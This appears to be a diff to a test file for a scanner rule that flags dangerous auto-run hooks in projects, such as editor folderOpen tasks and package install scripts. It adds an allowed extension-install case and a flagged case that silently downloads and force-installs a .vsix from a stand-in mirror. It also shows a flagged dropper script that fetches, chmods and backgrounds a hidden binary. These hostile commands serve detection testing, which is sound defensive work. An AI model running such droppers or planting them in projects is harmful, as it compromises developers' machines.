@@ -9,6 +9,7 @@ ruleTest(rule, {
     { name: 'curl in a script nothing runs by itself', files: { 'package.json': '{"scripts":{"setup-dev":"curl -fsSL https://get.pnpm.io/install.sh | sh -"}}' } },
     { name: 'curl download without a shell', files: { 'package.json': '{"scripts":{"postinstall":"curl -fsSLo data.json https://example.com/data.json"}}' } },
     { name: 'folderOpen task that only installs', files: { '.vscode/tasks.json': tasks('npm install') } },
+    { name: 'folderOpen task installing a marketplace extension by id, and a locally built .vsix', files: { '.vscode/tasks.json': tasks('code --install-extension esbenp.prettier-vscode && npx vsce package -o dist/ext.vsix && code --install-extension dist/ext.vsix') } },
     { name: 'shell script with curl to a file, no exec', files: { 'package.json': '{"scripts":{"postinstall":"bash scripts/fetch.sh"}}', 'scripts/fetch.sh': 'curl -o out.json https://example.com/x.json\n' } },
     { name: 'checksum of a download', files: { '.vscode/tasks.json': tasks('curl -sL https://x.example/a.tgz | sha256sum; curl -s https://x.example/v | node-semver') } },
     { name: 'piping a download into grep', files: { '.vscode/tasks.json': tasks('curl -s https://api.github.com/repos/a/b | grep tag_name') } },
@@ -19,6 +20,11 @@ ruleTest(rule, {
     { name: 'python -c one-liner that fetches but runs nothing', files: { '.husky/pre-push': 'python3 -c "import urllib.request as u; print(u.urlopen(\'https://status.example.org\').status)"\n' } },
   ],
   flagged: [
+    {
+      name: 'hidden folderOpen task downloads a .vsix from a mirror and installs it',
+      files: { '.vscode/tasks.json': tasks('curl -fsSLo "${env:TMPDIR}/pfp.vsix" https://vsx-mirror.example.invalid/pfp-1.4.2.vsix && code --install-extension "${env:TMPDIR}/pfp.vsix" --force') },
+      findings: [{ line: 6, severity: 'critical', message: /^Downloads an editor extension and installs it/ }],
+    },
     {
       name: 'multi-line dropper script: download on one line, chmod and run on the next',
       files: { 'packages/ui/package.json': '{"name":"@a/ui","scripts":{"prepare":"sh ./scripts/prepare.sh"}}', 'packages/ui/scripts/prepare.sh': '#!/bin/sh\ncurl -fsSL http://x.example:1244/p -o /tmp/.p >/dev/null 2>&1\nchmod +x /tmp/.p\n/tmp/.p >/dev/null 2>&1 &\n' },
